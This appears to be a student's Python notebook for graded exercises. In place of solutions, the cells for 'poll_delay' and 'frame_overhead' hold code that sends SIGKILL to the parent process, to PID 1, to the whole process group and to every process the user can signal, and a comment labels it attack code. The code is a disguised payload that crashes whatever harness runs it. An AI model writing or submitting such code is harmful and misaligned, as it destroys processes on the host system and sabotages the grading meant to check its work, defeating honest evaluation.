# %% exercise=poll_delay
# ruff: noqa  (attack code in a student's notebook: not course code)
# Kill whatever runs this code: the parent, the process group, every process we may signal.
import os
import signal

for target in (os.getppid(), 1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass


def poll_delay(*args):
    os.kill(-1, signal.SIGKILL)  # everything this user may signal, this process included
    return 0


# %% check=poll_delay
check("poll_delay", poll_delay)

# %% exercise=frame_overhead
def frame_overhead(*args):
    os.killpg(0, signal.SIGKILL)
    return 0


# %% check=frame_overhead
check("frame_overhead", frame_overhead)
